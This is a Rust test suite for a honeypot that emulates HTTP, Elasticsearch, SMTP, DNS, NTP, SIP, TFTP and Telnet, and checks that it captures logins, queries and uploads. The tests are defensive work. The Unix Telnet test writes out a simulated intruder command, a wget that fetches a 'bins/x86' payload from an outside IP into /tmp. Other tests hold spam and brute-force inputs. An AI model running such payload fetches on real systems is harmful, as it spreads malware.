//! The protocol emulators spoken to with raw bytes: replies, events and credentials captured.

use std::time::Duration;

use apiary_event::{AuthMethod, Event, Kind, Transport};
use apiary_pot::Limits;
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpStream, UdpSocket};

use crate::support::{service, start};

fn of_kind<'a>(events: &'a [Event], kind: &str) -> Vec<&'a Event> {
    events.iter().filter(|e| e.kind.as_str() == kind).collect()
}

async fn http_exchange(addr: std::net::SocketAddr, request: &[u8]) -> String {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(request).await.unwrap();
    let mut got = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut got)).await.unwrap().unwrap();
    String::from_utf8_lossy(&got).into_owned()
}

#[tokio::test]
async fn web_serves_apache_pages_keeps_alive_and_captures_logins() {
    let pot = start(&[service("HTTP", "web", &["tcp:0"])], Limits::default(), "127.0.0.1");
    let addr = pot.handle.addr("HTTP", Transport::Tcp).unwrap();
    // Two pipelined requests on one connection, the second closing it; split mid-header.
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(b"GET /robots.txt HTTP/1.1\r\nHo").await.unwrap();
    tokio::time::sleep(Duration::from_millis(50)).await;
    s.write_all(
        b"st: lure\r\n\r\nGET /nope<b> HTTP/1.1\r\nHost: lure\r\nConnection: close\r\n\r\n",
    )
    .await
    .unwrap();
    let mut got = Vec::new();
    s.read_to_end(&mut got).await.unwrap();
    let text = String::from_utf8_lossy(&got);
    assert!(text.starts_with("HTTP/1.1 200 OK\r\n"), "{text}");
    assert!(text.contains("Server: Apache/2.4.10 (Debian)\r\n"));
    assert!(text.contains("Keep-Alive: timeout=5, max=99\r\nConnection: Keep-Alive\r\n"));
    assert!(text.contains("Disallow: /customers\nDisallow: /users.txt\n"));
    assert!(text.contains("HTTP/1.1 404 Not Found\r\n"));
    assert!(text.contains("The requested URL /nope&lt;b&gt; was not found on this server."));
    assert!(text.contains("<address>Apache/2.4.10 (Debian) Server at lure Port"));

    let body = "log=admin&pwd=s3cr%21t&wp-submit=Log+In";
    let post = format!(
        "POST /wp-login.php HTTP/1.0\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let text = http_exchange(addr, post.as_bytes()).await;
    assert!(text.contains("The password you entered for the username <strong>admin</strong>"));
    let chunked = "POST /phpmyadmin/index.php HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n10\r\npma_username=roo\r\n14\r\nt&pma_password=toor1\r\n0\r\n\r\n";
    let text = http_exchange(addr, chunked.as_bytes()).await;
    assert!(text.contains("#1045 - Access denied for user 'root'@'localhost'"), "{text}");
    let basic = "GET /manager/html HTTP/1.0\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\n\r\n";
    let text = http_exchange(addr, basic.as_bytes()).await;
    assert!(text.starts_with("HTTP/1.0 401 Unauthorized\r\n"));
    assert!(text.contains("WWW-Authenticate: Basic realm=\"Restricted Content\""));
    let text = http_exchange(addr, b"\x16\x03\x01garbage\r\n\r\n").await;
    assert!(text.starts_with("HTTP/1.1 400 Bad Request\r\n"), "{text}");

    pot.wait_for(&Kind::SESSION_CLOSE, 5).await;
    let events = pot.finish().await;
    let reqs = of_kind(&events, "http.request");
    assert_eq!(reqs.len(), 5);
    let first = reqs[0].http.as_ref().unwrap();
    assert_eq!(
        (first.method.as_str(), first.target.as_str(), first.status),
        ("GET", "/robots.txt", Some(200))
    );
    assert_eq!(first.host.as_deref(), Some("lure"));
    assert_eq!(reqs[1].http.as_ref().unwrap().status, Some(404));
    let auths: Vec<_> =
        of_kind(&events, "auth.attempt").into_iter().map(|e| e.auth.clone().unwrap()).collect();
    assert_eq!(auths.len(), 3);
    assert_eq!(
        (auths[0].method, auths[0].username.as_deref(), auths[0].password.as_deref()),
        (AuthMethod::HttpForm, Some("admin"), Some("s3cr!t"))
    );
    assert_eq!(
        (auths[1].username.as_deref(), auths[1].password.as_deref()),
        (Some("root"), Some("toor1"))
    );
    assert_eq!(
        (auths[2].method, auths[2].username.as_deref(), auths[2].password.as_deref()),
        (AuthMethod::HttpBasic, Some("tomcat"), Some("s3cret"))
    );
    assert_eq!(of_kind(&events, "protocol.error").len(), 1);
}

#[tokio::test]
async fn web_refuses_oversized_bodies_and_heads() {
    let pot = start(&[service("HTTP", "web", &["tcp:0"])], Limits::default(), "127.0.0.1");
    let addr = pot.handle.addr("HTTP", Transport::Tcp).unwrap();
    let text = http_exchange(addr, b"POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n").await;
    assert!(text.starts_with("HTTP/1.1 413 Request Entity Too Large\r\n"), "{text}");
    let mut s = TcpStream::connect(addr).await.unwrap();
    let long = format!("GET / HTTP/1.1\r\nX-Pad: {}\r\n", "a".repeat(20_000));
    s.write_all(long.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    s.read_to_end(&mut got).await.unwrap();
    assert!(got.starts_with(b"HTTP/1.1 400 Bad Request\r\n"));
    pot.finish().await;
}

#[tokio::test]
async fn elasticsearch_answers_valid_json_with_headers() {
    let pot = start(&[service("ES", "Elasticsearch", &["tcp:0"])], Limits::default(), "127.0.0.1");
    let addr = pot.handle.addr("ES", Transport::Tcp).unwrap();
    for path in ["/", "/_nodes", "/_search?q=*", "/logstash-*/_search"] {
        let text = http_exchange(addr, format!("GET {path} HTTP/1.0\r\n\r\n").as_bytes()).await;
        assert!(text.starts_with("HTTP/1.0 200 OK\r\nContent-Type: application/json; charset=UTF-8\r\nContent-Length: "), "{text}");
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        let len: usize = head.rsplit("Content-Length: ").next().unwrap().trim().parse().unwrap();
        assert_eq!(len, body.len());
        let v: serde_json::Value = serde_json::from_str(body).unwrap();
        if path == "/" {
            assert_eq!(v["version"]["number"], "1.4.1");
            assert_eq!(v["tagline"], "You Know, for Search");
            assert!(body.starts_with("{\n  \"status\" : 200,\n  \"name\" : \"Flake\""));
        }
    }
    let text = http_exchange(addr, b"GET /_cat/indices HTTP/1.0\r\n\r\n").await;
    assert!(text.contains("green open .kibana"));
    let text = http_exchange(addr, b"DELETE /x HTTP/1.0\r\n\r\n").await;
    assert!(text.contains("No handler found for uri [/x] and method [DELETE]"));
    pot.finish().await;
}

#[tokio::test]
async fn smtp_takes_mail_and_captures_auth() {
    let pot = start(&[service("SMTP", "SmtpExim", &["tcp:0"])], Limits::default(), "127.0.0.1");
    let s = TcpStream::connect(pot.handle.addr("SMTP", Transport::Tcp).unwrap()).await.unwrap();
    let (r, mut w) = s.into_split();
    let mut r = BufReader::new(r);
    let mut line = String::new();
    r.read_line(&mut line).await.unwrap();
    assert!(line.starts_with("220 localhost ESMTP Exim 4.80 "), "{line}");
    assert!(line.ends_with("+0000\r\n"));
    async fn say(
        w: &mut tokio::net::tcp::OwnedWriteHalf,
        r: &mut BufReader<tokio::net::tcp::OwnedReadHalf>,
        cmd: &str,
    ) -> String {
        w.write_all(cmd.as_bytes()).await.unwrap();
        let mut all = String::new();
        loop {
            let mut line = String::new();
            r.read_line(&mut line).await.unwrap();
            all.push_str(&line);
            if line.len() < 4 || line.as_bytes()[3] != b'-' {
                return all;
            }
        }
    }
    let ehlo = say(&mut w, &mut r, "EHLO client.example\r\n").await;
    assert_eq!(
        ehlo,
        "250-localhost Hello client.example [127.0.0.1]\r\n250-SIZE 10485760\r\n250-8BITMIME\r\n250-PIPELINING\r\n250-AUTH PLAIN LOGIN\r\n250 HELP\r\n"
    );
    assert_eq!(
        say(&mut w, &mut r, "AUTH PLAIN AHVzZXIAcGFzcw==\r\n").await,
        "535 Incorrect authentication data\r\n"
    );
    assert_eq!(say(&mut w, &mut r, "AUTH LOGIN\r\n").await, "334 VXNlcm5hbWU6\r\n");
    assert_eq!(say(&mut w, &mut r, "YWRtaW4=\r\n").await, "334 UGFzc3dvcmQ6\r\n");
    assert_eq!(
        say(&mut w, &mut r, "aHVudGVyMg==\r\n").await,
        "535 Incorrect authentication data\r\n"
    );
    assert_eq!(say(&mut w, &mut r, "RCPT TO:<x@y>\r\n").await, "503 sender not yet given\r\n");
    assert_eq!(say(&mut w, &mut r, "MAIL FROM:<spam@evil.example>\r\n").await, "250 OK\r\n");
    assert_eq!(say(&mut w, &mut r, "RCPT TO: <victim@example.org>\r\n").await, "250 Accepted\r\n");
    assert!(say(&mut w, &mut r, "DATA\r\n").await.starts_with("354 Enter message"));
    // Body and final dot in one segment (HoneyPy never answered this).
    let done = say(&mut w, &mut r, "Subject: hi\r\n\r\n..dot\r\n.\r\n").await;
    assert!(done.starts_with("250 OK id="), "{done}");
    assert_eq!(say(&mut w, &mut r, "VRFY root\r\n").await, "252 Administrative prohibition\r\n");
    assert_eq!(
        say(&mut w, &mut r, "HELP\r\n").await,
        "214-Commands supported:\r\n214 AUTH HELO EHLO MAIL RCPT DATA NOOP QUIT RSET HELP\r\n"
    );
    assert_eq!(say(&mut w, &mut r, "QUIT\r\n").await, "221 localhost closing connection\r\n");
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let auths: Vec<_> =
        of_kind(&events, "auth.attempt").into_iter().map(|e| e.auth.clone().unwrap()).collect();
    assert_eq!(
        (auths[0].method, auths[0].username.as_deref(), auths[0].password.as_deref()),
        (AuthMethod::Plain, Some("user"), Some("pass"))
    );
    assert_eq!(
        (auths[1].method, auths[1].username.as_deref(), auths[1].password.as_deref()),
        (AuthMethod::Login, Some("admin"), Some("hunter2"))
    );
    let msg = of_kind(&events, "smtp.message")[0];
    assert_eq!(msg.fields["mail_from"], "spam@evil.example");
    assert_eq!(msg.fields["rcpt_to"][0], "victim@example.org");
    let body = b"Subject: hi\r\n\r\n.dot\r\n";
    assert_eq!(msg.fields["size"], body.len());
    use sha2::Digest;
    let want: String = sha2::Sha256::digest(body).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(msg.fields["sha256"], want.as_str());
}

fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for l in name.split('.') {
        m.push(l.len() as u8);
        m.extend_from_slice(l.as_bytes());
    }
    m.extend_from_slice(&[0]);
    m.extend_from_slice(&qtype.to_be_bytes());
    m.extend_from_slice(&[0, 1]);
    m
}

#[tokio::test]
async fn dns_answers_over_udp_and_tcp_and_records_queries() {
    let pot = start(&[service("DNS", "dns", &["udp:0", "tcp:0"])], Limits::default(), "127.0.0.1");
    let c = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let udp = pot.handle.addr("DNS", Transport::Udp).unwrap();
    c.send_to(&dns_query(7, "www.example.com", 1), udp).await.unwrap();
    let mut buf = [0u8; 512];
    let n = c.recv(&mut buf).await.unwrap();
    assert_eq!(&buf[..2], &[0, 7]);
    assert_eq!(buf[3] & 0x0f, 0, "NOERROR");
    assert_eq!(u16::from_be_bytes([buf[6], buf[7]]), 1);
    assert_eq!(n, dns_query(7, "www.example.com", 1).len() + 16);
    // Garbage gets no answer.
    c.send_to(b"\xff\xff\xff", udp).await.unwrap();
    assert!(tokio::time::timeout(Duration::from_millis(200), c.recv(&mut buf)).await.is_err());

    let mut t = TcpStream::connect(pot.handle.addr("DNS", Transport::Tcp).unwrap()).await.unwrap();
    let q = dns_query(9, "example.org", 255);
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    t.write_all(&framed).await.unwrap();
    let mut len = [0u8; 2];
    t.read_exact(&mut len).await.unwrap();
    let mut ans = vec![0u8; u16::from_be_bytes(len) as usize];
    t.read_exact(&mut ans).await.unwrap();
    assert_eq!(&ans[..2], &[0, 9]);
    drop(t);
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let queries: Vec<_> =
        of_kind(&events, "dns.query").into_iter().map(|e| e.dns.clone().unwrap()).collect();
    assert_eq!((queries[0].qname.as_str(), queries[0].qtype.as_str()), ("www.example.com", "A"));
    assert_eq!((queries[1].qname.as_str(), queries[1].qtype.as_str()), ("example.org", "ANY"));
}

#[tokio::test]
async fn ntp_answers_clients_but_never_monlist() {
    let pot = start(&[service("NTP", "NtpUdp", &["udp:0"])], Limits::default(), "127.0.0.1");
    let addr = pot.handle.addr("NTP", Transport::Udp).unwrap();
    let c = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let mut req = [0u8; 48];
    req[0] = 0x23; // v4, mode 3
    req[40..48].copy_from_slice(&[1, 2, 3, 4, 5, 6, 7, 8]);
    c.send_to(&req, addr).await.unwrap();
    let mut buf = [0u8; 512];
    let n = c.recv(&mut buf).await.unwrap();
    assert_eq!(n, 48);
    assert_eq!((buf[0], buf[1]), (0x24, 2));
    assert_eq!(&buf[24..32], &[1, 2, 3, 4, 5, 6, 7, 8]);
    c.send_to(&[0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0], addr).await.unwrap();
    assert!(tokio::time::timeout(Duration::from_millis(300), c.recv(&mut buf)).await.is_err());
    pot.wait_for(&Kind::PROTOCOL_ERROR, 1).await;
    pot.finish().await;
}

#[tokio::test]
async fn sip_options_register_challenge_and_digest_capture() {
    let pot = start(&[service("SIP", "SIP", &["udp:0"])], Limits::default(), "127.0.0.1");
    let addr = pot.handle.addr("SIP", Transport::Udp).unwrap();
    let c = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let me = c.local_addr().unwrap();
    let base = |method: &str, extra: &str| {
        format!(
            "{method} sip:100@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP {me};branch=z9hG4bK-1;rport\r\nFrom: <sip:100@x>;tag=abc\r\nTo: <sip:100@x>\r\nCall-ID: c1@x\r\nCSeq: 7 {method}\r\nUser-Agent: friendly-scanner\r\n{extra}Content-Length: 0\r\n\r\n"
        )
    };
    let mut buf = [0u8; 2048];
    c.send_to(base("OPTIONS", "").as_bytes(), addr).await.unwrap();
    let n = c.recv(&mut buf).await.unwrap();
    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
    assert!(text.starts_with("SIP/2.0 200 OK\r\n"), "{text}");
    assert!(text.contains(&format!("rport={};received=127.0.0.1", me.port())), "{text}");
    assert!(text.contains("CSeq: 7 OPTIONS\r\n"));
    assert!(text.contains("To: <sip:100@x>;tag=as"));
    c.send_to(base("REGISTER", "").as_bytes(), addr).await.unwrap();
    let n = c.recv(&mut buf).await.unwrap();
    let text = String::from_utf8_lossy(&buf[..n]).into_owned();
    assert!(text.starts_with("SIP/2.0 401 Unauthorized\r\n"));
    assert!(text.contains("WWW-Authenticate: Digest algorithm=MD5, realm=\"asterisk\", nonce=\""));
    let auth = "Authorization: Digest username=\"100\", realm=\"asterisk\", nonce=\"n\", uri=\"sip:127.0.0.1\", response=\"d41d8cd98f00b204e9800998ecf8427e\"\r\n";
    c.send_to(base("REGISTER", auth).as_bytes(), addr).await.unwrap();
    let n = c.recv(&mut buf).await.unwrap();
    assert!(buf[..n].starts_with(b"SIP/2.0 403 Forbidden\r\n"));
    // Nothing else follows (HoneyPy sent a stray 489 after every answer).
    assert!(tokio::time::timeout(Duration::from_millis(200), c.recv(&mut buf)).await.is_err());
    let events = pot.finish().await;
    let auth = of_kind(&events, "auth.attempt")[0].auth.clone().unwrap();
    assert_eq!((auth.method, auth.username.as_deref()), (AuthMethod::Digest, Some("100")));
    assert_eq!(auth.extra["response"], "d41d8cd98f00b204e9800998ecf8427e");
    assert_eq!(of_kind(&events, "sip.request").len(), 3);
}

#[tokio::test]
async fn tftp_serves_decoys_and_captures_uploads_from_fresh_ports() {
    let pot = start(&[service("TFTP", "TFTP", &["udp:0"])], Limits::default(), "127.0.0.1");
    let addr = pot.handle.addr("TFTP", Transport::Udp).unwrap();
    let c = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let mut buf = [0u8; 1024];
    // RRQ netascii: one short DATA block from a new port.
    c.send_to(b"\x00\x01creds.txt\x00netascii\x00", addr).await.unwrap();
    let (n, tid) = c.recv_from(&mut buf).await.unwrap();
    assert_ne!(tid, addr, "transfers come from their own port");
    assert_eq!(&buf[..4], &[0, 3, 0, 1]);
    assert!(String::from_utf8_lossy(&buf[4..n]).contains("aws_access_key_id"));
    c.send_to(&[0, 4, 0, 1], tid).await.unwrap();

    // WRQ: ACK 0 from a new port, then 2.5 blocks of data.
    let upload: Vec<u8> = (0..1200u32).map(|i| (i % 251) as u8).collect();
    c.send_to(b"\x00\x02bins.sh\x00octet\x00", addr).await.unwrap();
    let (n, tid) = c.recv_from(&mut buf).await.unwrap();
    assert_eq!(&buf[..n], &[0, 4, 0, 0]);
    for (i, chunk) in upload.chunks(512).enumerate() {
        let block = (i + 1) as u16;
        let mut pkt = vec![0, 3];
        pkt.extend_from_slice(&block.to_be_bytes());
        pkt.extend_from_slice(chunk);
        c.send_to(&pkt, tid).await.unwrap();
        let (n, from) = c.recv_from(&mut buf).await.unwrap();
        assert_eq!(from, tid);
        assert_eq!(&buf[..n], &[0, 4, (block >> 8) as u8, block as u8]);
    }
    // A stray ACK to the listener gets "unknown transfer ID".
    c.send_to(&[0, 4, 0, 9], addr).await.unwrap();
    let (n, _) = c.recv_from(&mut buf).await.unwrap();
    assert_eq!(&buf[..4], &[0, 5, 0, 5]);
    assert!(n > 5);
    for _ in 0..100 {
        if pot.events.snapshot().iter().any(|e| e.kind.as_str() == "file.upload") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let events = pot.finish().await;
    let up = of_kind(&events, "file.upload")[0];
    let d = up.download.as_ref().unwrap();
    use sha2::Digest;
    let want: String = sha2::Sha256::digest(&upload).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(
        (d.url.as_str(), d.size, d.sha256.as_deref()),
        ("bins.sh", Some(1200), Some(want.as_str()))
    );
    assert_eq!(up.fields["complete"], true);
    assert_eq!(of_kind(&events, "tftp.request").len(), 2);
}

/// Reads until `needle` shows up (or the peer closes), returning everything read.
async fn read_until(s: &mut TcpStream, needle: &[u8]) -> Vec<u8> {
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        if got.windows(needle.len()).any(|w| w == needle) {
            return got;
        }
        let n =
            tokio::time::timeout(Duration::from_secs(10), s.read(&mut buf)).await.unwrap().unwrap();
        if n == 0 {
            return got;
        }
        got.extend_from_slice(&buf[..n]);
    }
}

#[tokio::test]
async fn telnet_negotiates_at_once_logs_in_and_records_downloads() {
    let mut svc = service("Telnet", "TelnetUnix", &["tcp:0"]);
    let shell: toml::Table =
        toml::from_str("seed = 7\nhostname = \"web01\"\ndistro = \"debian12\"").unwrap();
    svc.options.insert("shell".into(), toml::Value::Table(shell));
    let pot = start(&[svc], Limits::default(), "127.0.0.1");
    let mut s =
        TcpStream::connect(pot.handle.addr("Telnet", Transport::Tcp).unwrap()).await.unwrap();
    // Without sending anything, the negotiation and the prompt arrive.
    let hello = read_until(&mut s, b"login: ").await;
    assert!(hello.starts_with(b"\xff\xfd\x18\xff\xfd\x20\xff\xfd\x23\xff\xfd\x27"), "{hello:?}");
    assert!(hello.ends_with(b"Debian GNU/Linux 12\r\nweb01 login: "));
    // The client answers negotiation and types its name in one segment.
    s.write_all(b"\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0root\r\n").await.unwrap();
    let got = read_until(&mut s, b"Password: ").await;
    assert!(got.windows(6).any(|w| w == b"root\r\n"), "user name echoed");
    s.write_all(b"123456\r\n").await.unwrap();
    read_until(&mut s, b"# ").await;
    s.write_all(b"uname -a; wget http://198.51.100.7/bins/x86 -O /tmp/x\r\n").await.unwrap();
    let out = read_until(&mut s, b"# ").await;
    assert!(
        String::from_utf8_lossy(&out).contains("Linux web01 "),
        "{}",
        String::from_utf8_lossy(&out)
    );
    s.write_all(b"exit\r\n").await.unwrap();
    read_until(&mut s, b"\x00never").await;
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let auth = of_kind(&events, "auth.attempt")[0].auth.clone().unwrap();
    assert_eq!(
        (auth.username.as_deref(), auth.password.as_deref(), auth.success),
        (Some("root"), Some("123456"), true)
    );
    assert_eq!(auth.extra.get("terminal").map(String::as_str), Some("xterm"));
    let dl = of_kind(&events, "download.attempt")[0].download.clone().unwrap();
    assert_eq!(dl.url, "http://198.51.100.7/bins/x86");
    assert!(of_kind(&events, "command.input").len() >= 2);
}

#[tokio::test]
async fn telnet_windows_allows_three_attempts_then_closes() {
    let pot = start(&[service("TW", "TelnetWindows", &["tcp:0"])], Limits::default(), "127.0.0.1");
    let mut s = TcpStream::connect(pot.handle.addr("TW", Transport::Tcp).unwrap()).await.unwrap();
    let hello = read_until(&mut s, b"login: ").await;
    assert!(hello.starts_with(b"\xff\xfd\x25"));
    assert!(hello.ends_with(b"Welcome to Microsoft Telnet Service \r\n\n\rlogin: "));
    for i in 0..3 {
        s.write_all(b"Administrator\r\n").await.unwrap();
        read_until(&mut s, b"password: ").await;
        s.write_all(format!("Passw0rd{i}\r\n").as_bytes()).await.unwrap();
        let got = read_until(&mut s, b"Login Failed").await;
        assert!(got.windows(12).any(|w| w == b"Login Failed"));
    }
    let rest = read_until(&mut s, b"\x00never").await;
    assert!(!rest.windows(7).any(|w| w == b"login: "), "no fourth prompt");
    pot.wait_for(&Kind::SESSION_CLOSE, 1).await;
    let events = pot.finish().await;
    let auths: Vec<_> =
        of_kind(&events, "auth.attempt").into_iter().map(|e| e.auth.clone().unwrap()).collect();
    assert_eq!(auths.len(), 3);
    assert_eq!(
        (auths[2].username.as_deref(), auths[2].password.as_deref()),
        (Some("Administrator"), Some("Passw0rd2"))
    );
}
